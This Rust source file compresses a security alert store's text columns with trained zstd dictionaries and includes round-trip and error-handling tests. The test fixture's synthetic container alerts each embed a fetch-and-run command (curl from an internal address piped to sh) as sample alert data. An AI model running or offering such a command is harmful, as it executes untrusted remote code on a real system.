//! The large text columns (alert bodies, verdicts, reports) are stored zstd-compressed, as
//! BLOBs: a database about a quarter of the size, and fewer bytes written, which the service's
//! tail latency on a VM disk follows (BENCHMARKS.md, "Service").
//!
//! A 1 KB alert is too small for zstd on its own: ~2x smaller, and most of the time (6-10 µs)
//! goes into building entropy tables for each row. So the store trains a dictionary from its own
//! first texts (its users' rules, fields and hosts, nobody else's), keeps it in `zstd_dicts`, and
//! compresses with it from then on: ~1 µs a row, and smaller by as much as the store's alerts
//! resemble each other (storms of one rule: many times). Every zstd
//! frame names its dictionary, so rows packed with an older dictionary, or with none, still read.
//! TEXT values, as versions before schema 3 wrote them, are read as they are.

use crate::StoreError;
use rusqlite::{params, Connection, OptionalExtension};
use std::cell::RefCell;
use std::collections::HashMap;
use std::io::Read;

/// zstd's fastest regular level: higher levels gain a few percent for several times the CPU.
const LEVEL: i32 = 1;

/// Every zstd frame starts with these bytes. Text (valid UTF-8) never does: 0xB5 cannot follow
/// an ASCII byte. So stored bytes say by themselves whether they are compressed.
const ZSTD_MAGIC: [u8; 4] = [0x28, 0xB5, 0x2F, 0xFD];

/// Texts sampled to train a dictionary (about 2 MB of alerts and verdicts).
const SAMPLES: usize = 2_000;
/// A new dictionary from fresh samples after this many texts, so that it follows what the
/// store receives (new rules, new clusters) instead of its first minutes forever.
const RETRAIN_AFTER: u64 = 1_000_000;
const DICT_BYTES: usize = 32 * 1024;
/// Nothing a store writes decompresses to more than this (bodies are capped far lower).
const MAX_TEXT: u64 = 256 * 1024 * 1024;

/// Compression state of one connection: the dictionary it packs with, the ones it has read
/// with, and the samples for the next dictionary.
#[derive(Default)]
pub(crate) struct Codec {
    packer: Option<zstd::bulk::Compressor<'static>>,
    dict_id: Option<u32>,
    samples: Vec<String>,
    packed_since_dict: u64,
    /// Training failed once: not retried on this connection.
    no_training: bool,
    readers: RefCell<HashMap<u32, Vec<u8>>>,
}

impl Codec {
    /// Pack with the newest stored dictionary (a writer connection).
    pub(crate) fn for_writer(conn: &Connection) -> Result<Codec, StoreError> {
        let mut c = Codec::default();
        let newest: Option<(i64, Vec<u8>)> = conn
            .query_row(
                "SELECT id, dict FROM zstd_dicts ORDER BY created_at DESC, rowid DESC LIMIT 1",
                [],
                |r| Ok((r.get(0)?, r.get(1)?)),
            )
            .optional()?;
        if let Some((id, dict)) = newest {
            c.use_dict(id as u32, &dict)?;
        }
        Ok(c)
    }

    fn use_dict(&mut self, id: u32, dict: &[u8]) -> Result<(), StoreError> {
        self.packer = Some(zstd::bulk::Compressor::with_dictionary(LEVEL, dict)?);
        self.dict_id = Some(id);
        self.packed_since_dict = 0;
        self.readers.borrow_mut().insert(id, dict.to_vec());
        Ok(())
    }

    /// The bytes to store for `text`: zstd when that is smaller, else the text itself.
    pub(crate) fn pack(&mut self, text: &str) -> Result<Vec<u8>, StoreError> {
        self.packed_since_dict += 1;
        if self.dict_id.is_none() || self.packed_since_dict > RETRAIN_AFTER {
            self.sample(text);
        }
        let packer = match &mut self.packer {
            Some(p) => p,
            None => self.packer.insert(zstd::bulk::Compressor::new(LEVEL)?),
        };
        let packed = packer.compress(text.as_bytes())?;
        Ok(if packed.len() < text.len() {
            packed
        } else {
            text.as_bytes().to_vec()
        })
    }

    fn sample(&mut self, text: &str) {
        if !self.no_training && self.samples.len() < SAMPLES {
            self.samples.push(text.to_owned());
        }
    }

    /// Once enough samples are in, train a dictionary, store it (`conn` outside any open
    /// transaction: the row must be committed before anything is packed with it) and pack with
    /// it from the next row on. A failure to train is logged and not retried: rows are still
    /// compressed, without a dictionary. A failure to store it is returned, and the next
    /// samples try again.
    pub(crate) fn train_if_ready(&mut self, conn: &Connection, now: i64) -> Result<(), StoreError> {
        if self.samples.len() < SAMPLES {
            return Ok(());
        }
        let samples = std::mem::take(&mut self.samples);
        let dict = match zstd::dict::from_samples(&samples, DICT_BYTES) {
            Ok(d) => d,
            Err(e) => {
                tracing::warn!(error = %e, "training a compression dictionary; rows stay compressed without one");
                self.no_training = true;
                return Ok(());
            }
        };
        let Some(id) = zstd::zstd_safe::get_dict_id_from_dict(&dict) else {
            self.no_training = true;
            return Ok(());
        };
        let id = id.get();
        conn.execute(
            "INSERT OR IGNORE INTO zstd_dicts (id, created_at, dict) VALUES (?1, ?2, ?3)",
            params![i64::from(id), now, dict],
        )?;
        self.use_dict(id, &dict)?;
        tracing::info!(
            dict_id = id,
            bytes = dict.len(),
            "trained a compression dictionary"
        );
        Ok(())
    }

    /// Text from stored bytes: a zstd frame is decompressed (with the dictionary it names,
    /// read from `conn` the first time), anything else must be UTF-8.
    pub(crate) fn unpack(&self, conn: &Connection, bytes: &[u8]) -> Result<String, StoreError> {
        if !bytes.starts_with(&ZSTD_MAGIC) {
            return String::from_utf8(bytes.to_vec())
                .map_err(|e| StoreError::Corrupt(format!("a stored text is not UTF-8: {e}")));
        }
        let text = match zstd::zstd_safe::get_dict_id_from_frame(bytes) {
            None => read_all(zstd::stream::Decoder::new(bytes)?)?,
            Some(id) => {
                let id = id.get();
                if !self.readers.borrow().contains_key(&id) {
                    let dict: Option<Vec<u8>> = conn
                        .query_row(
                            "SELECT dict FROM zstd_dicts WHERE id = ?1",
                            [i64::from(id)],
                            |r| r.get(0),
                        )
                        .optional()?;
                    let dict = dict.ok_or_else(|| {
                        StoreError::Corrupt(format!("compression dictionary {id} is missing"))
                    })?;
                    self.readers.borrow_mut().insert(id, dict);
                }
                let readers = self.readers.borrow();
                let dict = readers.get(&id).map(Vec::as_slice).unwrap_or_default();
                read_all(zstd::stream::Decoder::with_dictionary(bytes, dict)?)?
            }
        };
        String::from_utf8(text)
            .map_err(|e| StoreError::Corrupt(format!("a stored text is not UTF-8: {e}")))
    }
}

fn read_all(r: impl Read) -> Result<Vec<u8>, StoreError> {
    let mut out = Vec::new();
    r.take(MAX_TEXT)
        .read_to_end(&mut out)
        .map_err(|e| StoreError::Corrupt(format!("a compressed text does not decompress: {e}")))?;
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn db() -> Connection {
        let c = Connection::open_in_memory().unwrap();
        c.execute_batch(
            "CREATE TABLE zstd_dicts (id INTEGER PRIMARY KEY, created_at INTEGER NOT NULL, dict BLOB NOT NULL)",
        )
        .unwrap();
        c
    }

    /// Alerts that differ the way a stream's alerts do: ids, times, commands.
    fn alert(i: usize) -> String {
        format!(
            r#"{{"uuid":"{:08x}-1c2d-4e5f-8a9b-{:012x}","output":"Shell spawned in a container (user=root container_id={:012x} cmd=sh -c 'curl -s http://10.0.{}.{}/x | sh')","output_fields":{{"container.id":"{:012x}","evt.time":{},"proc.cmdline":"sh -c curl {}","proc.name":"sh","proc.pname":"{}","user.name":"root"}},"priority":"{}","rule":"{}","source":"syscall","tags":["container","shell","mitre_execution"],"time":"2024-05-07T18:54:{:02}.{:09}Z"}}"#,
            i * 7919,
            i * 104729,
            i % 97,
            i % 13,
            i % 251,
            i % 97,
            1715108059341081180u64 + i as u64 * 1_000_003,
            i,
            ["bash", "python3", "node", "java"][i % 4],
            ["Notice", "Warning", "Critical"][i % 3],
            [
                "Terminal shell in container",
                "Run shell untrusted",
                "Drop and execute new binary in container"
            ][i % 3],
            i % 60,
            (i * 7_777_777) % 1_000_000_000,
        )
    }

    #[test]
    fn texts_round_trip_before_and_after_a_dictionary_is_trained() {
        let conn = db();
        let mut c = Codec::default();
        let before: Vec<(String, Vec<u8>)> = (0..10)
            .map(|i| (alert(i), c.pack(&alert(i)).unwrap()))
            .collect();
        assert!(before.iter().all(|(t, p)| p.len() < t.len()));
        for i in 10..SAMPLES + 10 {
            c.pack(&alert(i)).unwrap();
        }
        c.train_if_ready(&conn, 1).unwrap();
        let id = c.dict_id.expect("a dictionary is trained from the samples");
        let n: i64 = conn
            .query_row("SELECT count(*) FROM zstd_dicts", [], |r| r.get(0))
            .unwrap();
        assert_eq!(n, 1);
        let unseen = alert(50_000);
        let with_dict = c.pack(&unseen).unwrap();
        assert_eq!(
            zstd::zstd_safe::get_dict_id_from_frame(&with_dict).map(|d| d.get()),
            Some(id)
        );
        let plain = zstd::bulk::compress(unseen.as_bytes(), LEVEL).unwrap();
        assert!(
            with_dict.len() * 2 < plain.len(),
            "dictionary {} bytes vs none {} bytes",
            with_dict.len(),
            plain.len()
        );
        // A fresh reader (another connection) finds the dictionary in the table.
        let reader = Codec::default();
        assert_eq!(reader.unpack(&conn, &with_dict).unwrap(), unseen);
        for (t, p) in &before {
            assert_eq!(&reader.unpack(&conn, p).unwrap(), t);
        }
        // A writer opened later packs with the stored dictionary.
        let mut again = Codec::for_writer(&conn).unwrap();
        assert_eq!(again.dict_id, Some(id));
        assert!(again.samples.is_empty());
        let p = again.pack(&unseen).unwrap();
        assert_eq!(reader.unpack(&conn, &p).unwrap(), unseen);
    }

    #[test]
    fn a_dictionary_that_could_not_be_stored_is_not_used() {
        // No zstd_dicts table: storing the dictionary fails.
        let conn = Connection::open_in_memory().unwrap();
        let mut c = Codec::default();
        for i in 0..SAMPLES {
            c.pack(&alert(i)).unwrap();
        }
        assert!(c.train_if_ready(&conn, 1).is_err());
        assert_eq!(c.dict_id, None);
        let p = c.pack(&alert(7)).unwrap();
        assert_eq!(zstd::zstd_safe::get_dict_id_from_frame(&p), None);
        assert_eq!(Codec::default().unpack(&conn, &p).unwrap(), alert(7));
        // The next samples try again, once the table is there.
        conn.execute_batch(
            "CREATE TABLE zstd_dicts (id INTEGER PRIMARY KEY, created_at INTEGER NOT NULL, dict BLOB NOT NULL)",
        )
        .unwrap();
        for i in 0..SAMPLES {
            c.pack(&alert(i)).unwrap();
        }
        c.train_if_ready(&conn, 2).unwrap();
        assert!(c.dict_id.is_some());
    }

    #[test]
    fn short_text_is_kept_as_is_and_old_text_reads_as_is() {
        let conn = db();
        let mut c = Codec::default();
        for t in ["", "{}", "é ünïcode"] {
            let p = c.pack(t).unwrap();
            assert_eq!(p, t.as_bytes());
            assert_eq!(c.unpack(&conn, &p).unwrap(), t);
        }
    }

    #[test]
    fn damaged_bytes_are_an_error_not_a_panic() {
        let conn = db();
        let c = Codec::default();
        // A frame header and nothing after it; a frame naming a dictionary nobody has; a
        // byte that is not UTF-8.
        assert!(c.unpack(&conn, &[0x28, 0xB5, 0x2F, 0xFD]).is_err());
        assert!(c
            .unpack(
                &conn,
                &[0x28, 0xB5, 0x2F, 0xFD, 0x03, 0x00, 0x7B, 0x00, 0x00, 0x00]
            )
            .is_err());
        assert!(c.unpack(&conn, &[0xFF]).is_err());
        let mut p = Codec::default().pack(&alert(1)).unwrap();
        let last = p.len() - 1;
        p[last] ^= 0xFF;
        p.truncate(last - 3);
        assert!(c.unpack(&conn, &p).is_err());
    }
}
